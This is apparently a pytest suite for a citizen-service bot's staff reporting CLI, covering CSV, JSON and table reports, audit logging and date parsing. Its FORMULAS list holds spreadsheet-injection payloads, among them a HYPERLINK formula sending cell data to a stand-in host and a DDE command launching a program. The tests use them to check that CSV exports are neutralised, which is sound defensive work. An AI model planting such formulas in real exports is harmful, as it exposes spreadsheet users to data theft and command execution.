"""`govbot report …` and `govbot kb suggestions …` as staff run them, on a seeded SQLite file."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest

from bot.cli import main
from bot.commands.tables import render_csv, render_table, since_argument, width, window_start
from knowledge.normalise import normalise
from storage import db
from storage.audit import AuditKind, AuditLog
from storage.citizens import CitizenRepository
from storage.feedback import FeedbackKind, FeedbackRepository
from storage.knowledge import KnowledgeRepository
from storage.questions import NewQuestion, QuestionRepository
from storage.suggestions import SuggestionRepository
from tests.handlers.conftest import small_kb
from tests.storage.feedback_seed import MISSING, seed

Capture = pytest.CaptureFixture[str]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1",
    "\r=1+1", " =1+1", "  @SUM(A1)", "\n-2+3",
]
"""What a citizen may type that a spreadsheet runs: OWASP's first characters, also behind spaces."""


@pytest.fixture(autouse=True)
def database(cli_database: str) -> str:
    return cli_database


def seeded(url: str) -> None:
    """The feedback seed, dated around the real now (the commands read the real clock)."""

    async def go() -> None:
        async with db.connected(url) as engine:
            await seed(db.sessionmaker(engine), datetime.now(UTC) - timedelta(minutes=1))

    asyncio.run(go())


def picked(url: str, text: str, entry_id: str) -> None:
    """A citizen chose ``entry_id`` from "did you mean" for ``text``."""

    async def go() -> None:
        async with db.connected(url) as engine, db.sessionmaker(engine).begin() as session:
            await QuestionRepository(session).record_question(
                None, NewQuestion(
                    text, normalised=normalise(text), language="en", decision="clarify", reason="test",
                    candidates=[], signals={}
                ),
            )
            await SuggestionRepository(session).record_pick(text, entry_id)

    asyncio.run(go())


def unanswered(url: str, text: str) -> None:
    """A citizen asked ``text`` and the bot found nothing good."""

    async def go() -> None:
        async with db.connected(url) as engine, db.sessionmaker(engine).begin() as session:
            await QuestionRepository(session).record_question(
                None, NewQuestion(
                    text, normalised=normalise(text), language="en", decision="none", reason="test",
                    candidates=[], signals={}
                ),
            )

    asyncio.run(go())


def missing(url: str, text: str) -> None:
    """A citizen was shown ``id-card-renew`` and said ``text`` was missing from it."""

    async def go() -> None:
        async with db.connected(url) as engine, db.sessionmaker(engine).begin() as session:
            await KnowledgeRepository(session).apply_import(small_kb(), "test")
            citizen = await CitizenRepository(session).get_or_create("test", "1")
            answer = await QuestionRepository(session).record_answer(
                citizen.id, "id-card-renew", how="matched", score=0.9
            )
            await FeedbackRepository(session).add(
                citizen.id, FeedbackKind.MISSING, text, language="en", answer_id=answer
            )

    asyncio.run(go())


def alternatives(url: str, entry_id: str) -> list[str]:
    async def go() -> list[str]:
        async with db.connected(url) as engine, db.sessionmaker(engine)() as session:
            entry = await KnowledgeRepository(session).entry(entry_id)
            assert entry is not None
            return entry.alternatives.get("en", [])

    return asyncio.run(go())


def test_unanswered_json_has_the_clusters_largest_first(database: str, capsys: Capture) -> None:
    seeded(database)
    assert main(["report", "unanswered", "--since", "7d", "--format", "json"]) == 0
    report = json.loads(capsys.readouterr().out)
    assert report["questions"] == 7
    clusters = report["clusters"]
    assert [(c["rank"], c["language"], c["count"], c["citizens"]) for c in clusters] == [
        (1, "en", 3, 2),
        (2, "zh", 2, 2),
        (3, "en", 2, 1),
    ]
    assert set(clusters[0]["examples"]) == {
        "When does the swimming pool open?",
        "swimming pool opening hours",
        "What time does the public pool open",
    }
    assert (clusters[0]["nearest_entry"], clusters[0]["nearest_score"]) == ("id-card-renew", 0.12)


def test_unanswered_since_a_longer_period_includes_older_questions(database: str, capsys: Capture) -> None:
    seeded(database)
    assert main(["report", "unanswered", "--since", "2w", "--format", "json"]) == 0
    assert json.loads(capsys.readouterr().out)["questions"] == 8
    tomorrow = (datetime.now(UTC) + timedelta(days=1)).date().isoformat()
    assert main(["report", "unanswered", "--since", tomorrow]) == 0
    assert "nothing unanswered" in capsys.readouterr().out


def test_unanswered_table_and_csv(database: str, capsys: Capture) -> None:
    seeded(database)
    assert main(["report", "unanswered"]) == 0
    table = capsys.readouterr().out
    assert "7 in 3 cluster(s)" in table
    assert "垃圾" in table
    assert main(["report", "unanswered", "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [row["count"] for row in rows] == ["3", "2", "2"]
    assert rows[0]["examples"].count(" | ") == 2


def test_feedback_report_puts_the_worst_helpful_rate_first(database: str, capsys: Capture) -> None:
    seeded(database)
    assert main(["report", "feedback", "--since", "7d", "--format", "json"]) == 0
    report = json.loads(capsys.readouterr().out)
    entries = [(e["entry_id"], e["shown"], e["helpful_rate"], e["comments"]) for e in report["entries"]]
    assert entries == [
        ("tax-property-pay", 4, 0.333, 1),
        ("id-card-renew", 2, 1.0, 0),
        ("id-card-lost", 1, None, 0),
    ]
    assert report["entries"][0]["examples"] == [MISSING]
    assert (report["comments"], report["complaints"]) == (1, 1)
    assert [c["text"] for c in report["latest_comments"]] == ["办事窗口排队太久", "Very quick, thanks"]


def test_feedback_report_as_table_and_csv(database: str, capsys: Capture) -> None:
    seeded(database)
    assert main(["report", "feedback"]) == 0
    table = capsys.readouterr().out
    assert table.index("tax-property-pay") < table.index("id-card-renew")
    assert "33%" in table
    assert "Comments: 1, complaints: 1" in table
    last_month = (datetime.now(UTC) - timedelta(days=30)).date().isoformat()
    assert main(["report", "feedback", "--format", "csv", "--since", last_month]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert (rows[0]["entry_id"], rows[0]["helpful_rate"]) == ("tax-property-pay", "0.333")


def test_feedback_report_marks_an_entry_deleted_since(database: str, capsys: Capture) -> None:
    """Staff must not go looking for an entry to improve that is no longer in the knowledge base."""
    seeded(database)

    async def delete_entry() -> None:
        async with db.connected(database) as engine, db.sessionmaker(engine).begin() as session:
            await KnowledgeRepository(session).delete_entry("tax-property-pay", "test")

    asyncio.run(delete_entry())
    assert main(["report", "feedback", "--format", "json"]) == 0
    entries = json.loads(capsys.readouterr().out)["entries"]
    assert [(e["entry_id"], e["deleted"]) for e in entries] == [
        ("tax-property-pay", True), ("id-card-renew", False), ("id-card-lost", False),
    ]
    assert main(["report", "feedback", "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [row["deleted"] for row in rows] == ["true", "false", "false"]
    assert main(["report", "feedback"]) == 0
    assert "(deleted) How do I pay my property tax?" in capsys.readouterr().out


@pytest.mark.parametrize("typed", FORMULAS)
def test_csv_cells_a_citizen_typed_are_never_formulas_to_a_spreadsheet(typed: str) -> None:
    _, row = list(csv.reader(io.StringIO(render_csv(["question", "count"], [(typed, -3)]), newline="")))
    assert row == ["'" + typed, "-3"]  # text kept whole behind the quote; numbers stay numbers


def test_csv_numbers_we_wrote_stay_numbers_and_text_is_always_quoted() -> None:
    # Quoted, a citizen's "a;=1+1" stays one cell where the spreadsheet's list separator is ";".
    text = render_csv(["question", "delta", "rate", "missing"], [("a;=1+1", -3, -0.25, None)])
    assert text.splitlines()[1] == '"a;=1+1",-3,-0.25,""'


def test_csv_a_carriage_return_inside_a_citizens_text_starts_no_row_of_its_own() -> None:
    rows = list(csv.reader(io.StringIO(render_csv(["question"], [("thanks\r=1+1",)]), newline="")))
    assert rows == [["question"], ["thanks\r=1+1"]]


def test_csv_text_that_already_begins_with_a_quote_gets_one_more() -> None:
    # So that the cell minus one leading quote is always what was written (kb import relies on it).
    rows = list(csv.reader(io.StringIO(render_csv(["question"], [("'=1+1",), ("'Tis",)]), newline="")))
    assert rows[1:] == [["''=1+1"], ["'Tis"]]  # a quote before anything harmless needs none


@pytest.mark.parametrize("typed", FORMULAS)
def test_an_unanswered_question_comes_out_as_text_in_the_csv(
    database: str, capsys: Capture, typed: str
) -> None:
    unanswered(database, typed)
    assert main(["report", "unanswered", "--format", "csv"]) == 0
    [row] = list(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
    stored = typed.strip()  # questions are kept without the spaces around them
    assert (row["question"], row["examples"]) == ("'" + stored, "'" + stored)


@pytest.mark.parametrize("typed", FORMULAS)
def test_what_a_citizen_said_was_missing_comes_out_as_text_in_the_feedback_csv(
    database: str, capsys: Capture, typed: str
) -> None:
    missing(database, typed)
    assert main(["report", "feedback", "--format", "csv"]) == 0
    [row] = list(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
    assert (row["entry_id"], row["examples"]) == ("id-card-renew", "'" + typed)


@pytest.mark.parametrize("typed", FORMULAS)
def test_a_suggested_phrasing_comes_out_as_text_in_the_suggestions_csv(
    database: str, capsys: Capture, typed: str
) -> None:
    seeded(database)
    picked(database, typed, "id-card-lost")
    assert main(["kb", "suggestions", "--format", "csv"]) == 0
    [row] = list(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
    assert (row["text"], row["times_chosen"]) == ("'" + typed.strip(), "1")  # kept as its question is


def test_every_listing_of_citizens_words_is_an_export_in_the_audit_log(database: str) -> None:
    for command in (["report", "unanswered"], ["report", "feedback"], ["kb", "suggestions"]):
        assert main(command) == 0

    async def exports() -> list[str]:
        async with db.connected(database) as engine, db.sessionmaker(engine)() as session:
            records = await AuditLog(session).search(kind=AuditKind.EXPORT)
            return [str(record.details["what"]) for record in records]

    assert sorted(asyncio.run(exports())) == ["kb suggestions", "report feedback", "report unanswered"]


def test_reports_on_an_empty_database(capsys: Capture) -> None:
    assert main(["report", "feedback", "--format", "json"]) == 0
    assert json.loads(capsys.readouterr().out)["entries"] == []
    assert main(["report", "unanswered", "--format", "csv"]) == 0
    assert capsys.readouterr().out.strip() == (
        "rank,language,count,citizens,question,examples,nearest_entry,nearest_score"
    )


def test_a_bad_since_is_refused_with_a_clear_message(capsys: Capture) -> None:
    with pytest.raises(SystemExit) as exit_info:
        main(["report", "unanswered", "--since", "last tuesday"])
    assert exit_info.value.code == 2
    assert "not a period like 7d, 24h or 2w" in capsys.readouterr().err


def test_suggestions_are_listed_accepted_and_rejected(database: str, capsys: Capture) -> None:
    seeded(database)
    for _ in range(2):
        picked(database, "my wallet was taken with my card inside", "id-card-lost")
    picked(database, "card renewal counter", "id-card-renew")
    assert main(["kb", "suggestions", "--format", "json"]) == 0
    listed = json.loads(capsys.readouterr().out)["suggestions"]
    assert [(s["text"], s["times_chosen"]) for s in listed] == [
        ("my wallet was taken with my card inside", 2),
        ("card renewal counter", 1),
    ]
    first, second = listed[0]["id"], listed[1]["id"]
    assert main(["kb", "suggestions", "accept", str(first)]) == 0
    assert "added to id-card-lost as a new revision" in capsys.readouterr().out
    assert alternatives(database, "id-card-lost")[-1] == "my wallet was taken with my card inside"
    assert main(["kb", "suggestions", "reject", str(second), "999"]) == 1
    out, err = capsys.readouterr()
    assert "rejected" in out
    assert "#999: no such suggestion" in err
    assert main(["kb", "suggestions", "accept", str(first)]) == 1
    assert "already accepted" in capsys.readouterr().err
    assert main(["kb", "suggestions"]) == 0
    assert capsys.readouterr().out.strip() == "no suggestions"
    assert main(["kb", "suggestions", "--status", "all", "--format", "csv"]) == 0
    assert len(capsys.readouterr().out.strip().splitlines()) == 3


@pytest.mark.parametrize("typed", ["abc", "\u0661", "1_0", "0", "99999999999", "-1", ""])
def test_suggestion_ids_must_be_ascii_numbers_in_the_tables_range(typed: str, capsys: Capture) -> None:
    with pytest.raises(SystemExit) as exit_info:
        main(["kb", "suggestions", "accept", typed])
    assert exit_info.value.code == 2
    assert "is not a suggestion id (a number from 1 to 2147483647)" in capsys.readouterr().err


@pytest.mark.parametrize("typed", [
    "\u0661\u0662d", "9999-12-31T23:00-05:00", "0001-01-01T00:00+05:00", "7x", "-3d", "",
])
def test_since_refuses_what_is_not_a_period_or_a_time_in_the_calendar(typed: str, capsys: Capture) -> None:
    with pytest.raises(SystemExit) as exit_info:
        main(["report", "feedback", f"--since={typed}"])
    assert exit_info.value.code == 2
    assert "is not a period like 7d" in capsys.readouterr().err


def test_a_report_since_a_time_with_an_offset_is_titled_in_utc(cli_database: str, capsys: Capture) -> None:
    assert main(["report", "unanswered", "--since", "2026-11-01T00:00+14:00"]) == 0
    assert "since 2026-10-31 10:00 UTC" in capsys.readouterr().out
    assert main(["report", "unanswered", "--since", "0001-01-02"]) == 0
    assert "since 0001-01-02 00:00 UTC" in capsys.readouterr().out


def test_since_accepts_periods_and_iso_dates() -> None:
    now = datetime(2026, 11, 23, 9, 30, tzinfo=UTC)
    assert window_start(since_argument("7d"), now) == now - timedelta(days=7)
    assert window_start(since_argument("24h"), now) == now - timedelta(hours=24)
    assert window_start(since_argument("2W"), now) == now - timedelta(weeks=2)
    assert window_start(since_argument("2026-11-01"), now) == datetime(2026, 11, 1, tzinfo=UTC)
    assert window_start(since_argument("2026-11-01T08:00+08:00"), now) == datetime(2026, 11, 1, tzinfo=UTC)


def test_since_a_date_without_an_offset_starts_at_the_desks_midnight() -> None:
    now, shanghai = datetime(2026, 11, 23, 9, 30, tzinfo=UTC), ZoneInfo("Asia/Shanghai")

    def start(typed: str, zone: ZoneInfo = shanghai) -> datetime:
        return window_start(since_argument(typed), now, zone)

    assert start("2026-11-01") == datetime(2026, 10, 31, 16, tzinfo=UTC)
    assert start("2026-11-01T08:00") == datetime(2026, 11, 1, tzinfo=UTC)
    assert start("2026-11-01T08:00Z") == datetime(2026, 11, 1, 8, tzinfo=UTC)  # an offset says whose clock
    assert start("7d") == now - timedelta(days=7)
    assert start("0001-01-01") == datetime.min.replace(tzinfo=UTC)
    assert start("9999-12-31T23:00", ZoneInfo("America/New_York")).year == 9999


def test_a_report_since_a_date_is_titled_with_the_desks_midnight_in_utc(
    cli_database: str, monkeypatch: pytest.MonkeyPatch, capsys: Capture
) -> None:
    monkeypatch.setenv("GOVBOT_TIMEZONE", "Asia/Shanghai")
    assert main(["report", "unanswered", "--since", "2026-11-01"]) == 0
    assert "since 2026-10-31 16:00 UTC" in capsys.readouterr().out


def test_tables_align_chinese_text_by_its_display_width() -> None:
    table = render_table(("q", "n"), [["护照在哪办", 12], ["passport office", 3]]).splitlines()
    assert width(table[2]) == width(table[3])
    assert table[3].endswith(" 3")
